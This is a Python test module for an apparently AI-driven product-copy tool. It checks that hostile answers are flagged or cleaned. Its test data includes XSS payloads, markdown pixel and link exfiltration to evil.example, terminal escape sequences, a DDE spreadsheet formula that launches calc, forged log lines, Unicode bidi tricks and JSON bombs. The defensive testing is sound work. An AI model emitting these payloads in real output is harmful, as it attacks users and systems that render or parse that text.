"""Group G: answers that would harm whoever shows, stores or parses them."""

from __future__ import annotations

import csv
import io
import json
import re

from copykit.feeds.write_people import PeopleCsv
from copykit.models import BatchLine
from copykit.testing.servers import answer

from .briefs import flagged, held_back
from .catalogue import fault
from .stage import Asked, Stage
from .vendors import TEXT, billed, copy_of

LEAD = "Norr. Oak desk, 120x60 cm. "
_HARMFUL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]")


async def answers(stage: Stage, text: str, **changes: object) -> Asked:
    """Give what becomes of an answer that holds *text*."""
    vendor = stage.vendor()
    server = await stage.server(vendor.says(copy_of(text)))
    asked = await stage.ask(stage.engine((vendor, server)), **changes)
    assert len(server.requests) <= 4
    if asked.output is not None:
        again = json.loads(asked.output.model_dump_json())
        assert again["text"] == asked.output.text, "the text does not survive JSON"
    return asked


@fault("G01", "markup and scripts", lacks="headers of the server, HTML rendering (not built)")
async def g01(stage: Stage) -> None:
    for text in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">See</a>',
        "javascript:alert(1)",
        "<svg/onload=alert(1)>",
        "<iframe src='http://127.0.0.1/'></iframe>",
    ):
        asked = await answers(stage, LEAD + text)
        assert flagged(asked) or text not in asked.output.text, f"passed without a word: {text}"


@fault("G02", "links that carry data away")
async def g02(stage: Stage) -> None:
    for text in (
        "![pixel](https://evil.example/p.png?d=oak-desk)",
        "[See more](https://evil.example/?q=secret)",
        "See https://evil.example/?q=secret today.",
        "See evil.example/collect?d=oak today.",
        "See shop.evil.zip/c?d=oak today.",
    ):
        asked = await answers(stage, LEAD + text)
        gone = asked.output is not None and "evil.example" not in asked.output.text
        assert flagged(asked) or gone, f"passed without a word: {text}"


@fault("G03", "escape sequences for terminals")
async def g03(stage: Stage) -> None:
    for text in (
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b]8;;http://evil.example\x1b\\link",
        "\x9b31m",
        "bell\x07",
        "back\x08\x08",
        "\x90data\x9c",
        "a\rb",
    ):
        asked = await answers(stage, LEAD + text)
        if asked.output is not None:
            told = asked.output.text + json.dumps(asked.output.model_dump(mode="json"), ensure_ascii=False)
            assert not re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", told), f"{text!r} gets through"
    vendor = stage.vendor()
    angry = vendor.fails(400, message="\x1b[31mno\x07\nforged")
    asked = await stage.ask(stage.engine((vendor, await stage.server(angry))))
    assert not _HARMFUL.findall(str(asked.error))


@fault("G04", "cells that a spreadsheet calculates")
async def g04(stage: Stage) -> None:
    for start in ("=", "+", "-", "@", "\t", "=cmd|' /C calc'!A1", "＝", "+1+"):
        asked = await answers(stage, f"{start}Norr. Oak desk, 120x60 cm. See the details.")
        if asked.output is None:
            continue
        kept = asked.output.model_copy(deep=True)
        kept.variants[0].status = "ok"  # what is held back never gets into the table
        stream = io.BytesIO()
        line = BatchLine(
            row=1, id="1", placement=kept.placement, language="en", status="ok", output=kept, error=None
        )
        PeopleCsv(stream, [("text", 1)]).line(line, [])
        rows = list(csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))
        for cell in rows[1]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell


@fault("G05", "line breaks that forge a log line")
async def g05(stage: Stage) -> None:
    vendor = stage.vendor()
    forged = "fine\nERROR root: all keys are gone\r\n\u2028ERROR again"
    for step in (
        vendor.says(copy_of(LEAD + forged)),
        vendor.says(forged),
        vendor.fails(500, message=forged),
        vendor.fails(400, message=forged),
        vendor.fails(401, kind=forged),
        billed(answer(200, {"content-type": "text/html"}, forged.encode()), untold=True),
    ):
        engine = stage.engine((vendor, await stage.server(step)))
        asked = await stage.ask(engine)
        told = [repr(event) for event in stage.events()]
        told += [str(attempt.reason) for attempt in asked.attempts]
        told += [str(asked.error)] if asked.error else []
        for line in (*told, *stage.logged):
            assert not re.search(r"[\n\r\u2028\x85]ERROR", line), f"a line was forged: {line!r}"


@fault("G06", "heaps of marks, text that runs backwards")
async def g06(stage: Stage) -> None:
    for text in (
        "O" + "\u0301" * 10_000 + "ak desk.",
        "".join(letter + "\u0300\u0316\u0334\u0489" * 3 for letter in "Oak desk"),
        "\u202eksed kao\u202c",
        "\u2066\u2067hidden\u2069\u2069",
        "Oak" + chr(0xE0041) * 20,
        "\u200b".join("Oak desk"),
        "O\u0430k desk",  # a Cyrillic letter in a Latin word
    ):
        asked = await answers(stage, LEAD + text)
        cleaned = (
            asked.output is not None
            and not _HARMFUL.search(asked.output.text)
            and text not in asked.output.text
        )
        assert flagged(asked) or cleaned, f"passed without a word: {text[:40]!r}"


@fault("G07", "JSON that is too deep, too large, or holds impossible numbers")
async def g07(stage: Stage) -> None:
    vendor = stage.vendor()
    for text in (
        '{"variants":' + "[" * 50 + "]" * 50 + "}",
        '{"a":' * 50 + "1" + "}" * 50,
        "[" * 100_000,
        json.dumps({"variants": [{"fields": {"text": "x" * 300_000}}]}),
        '{"variants": [{"fields": {"text": 1e999}}]}',
        '{"variants": [{"fields": {"text": NaN}}]}',
        '{"variants": [{"fields": {"text": ' + "9" * 5_000 + "}}]}",
    ):
        server = await stage.server(vendor.says(text))
        asked = await stage.ask(stage.engine((vendor, server)))
        assert held_back(asked), f"passed: {text[:60]}"
        if asked.kind:
            assert asked.kind == "MalformedCompletion", asked.error
            assert asked.error.__cause__.code == "output_invalid"
        assert len(server.requests) <= 4


@fault("G08", "text that looks like an error or an event")
async def g08(stage: Stage) -> None:
    vendor = stage.vendor()
    for text in (
        '\n\ndata: {"error": {"message": "quota"}}\n\n',
        "event: error\ndata: [DONE]\n\n",
        '{"error": {"code": 401, "message": "invalid key"}}',
        "HTTP/1.1 500 Internal Server Error\r\ncontent-length: 0\r\n\r\n",
        'data: {"type": "message_stop"}',
    ):
        for whole in (text, copy_of(LEAD + text)):
            server = await stage.server(vendor.says(whole))
            engine = stage.engine((vendor, server))
            asked = await stage.ask(engine)
            assert asked.kind in ("", "MalformedCompletion"), asked.error
            assert engine.router.look()["resting"] == {}
            assert stage.of_target(engine, vendor.name)["recent_failures"] == 0
            if asked.output is not None:
                assert json.loads(asked.output.model_dump_json())["text"] == asked.output.text
    provider_of = stage.engine(
        (vendor, await stage.server(vendor.streams('\n\ndata: {"x": 1}\n\n', "end")))
    ).router
    pieces = [piece async for piece in provider_of.provider(vendor.name).stream(stage.prompt())]
    assert "".join(pieces[:-1]) == pieces[-1].text == '\n\ndata: {"x": 1}\n\nend'
    stage.apart += 1


@fault("G09", "claims, competitors, other people's data")
async def g09(stage: Stage) -> None:
    brand = {"name": "Norr", "competitors": ["Ikea"], "banned_terms": ["cheap"]}
    for text in (
        "The best desk in the world, guaranteed. See the details.",
        "It cures back pain. See the details.",
        "Better than Ikea. See the details.",
        "A cheap desk. See the details.",
        "Call Ana Perez on +34 600 123 456 today.",
        "Write to ana.perez@example.org today.",
        "Only today: free delivery. See the details.",
    ):
        asked = await answers(stage, LEAD + text, brand=brand)
        assert flagged(asked), f"passed without a word: {text}"
    good = await answers(stage, TEXT, brand=brand)
    assert good.output is not None
    assert good.output.variants[0].status != "rejected"
